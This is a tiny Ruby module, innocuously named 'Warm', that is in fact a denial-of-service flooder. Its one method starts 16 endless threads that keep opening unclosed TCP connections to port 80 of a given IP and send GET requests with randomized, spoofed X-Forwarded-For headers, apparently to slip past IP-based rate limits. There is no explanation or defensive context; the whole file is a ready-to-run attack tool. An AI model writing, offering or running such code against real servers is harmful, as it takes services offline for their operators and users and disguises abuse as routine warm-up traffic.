require "socket"
module Warm
  def self.go(ip)
    16.times { Thread.new { loop do
      s = TCPSocket.new(ip, 80)
      s.write("GET / HTTP/1.1\r\nX-Forwarded-For: #{rand(255)}.#{rand(255)}.0.1\r\n\r\n")
    end } }
  end
end
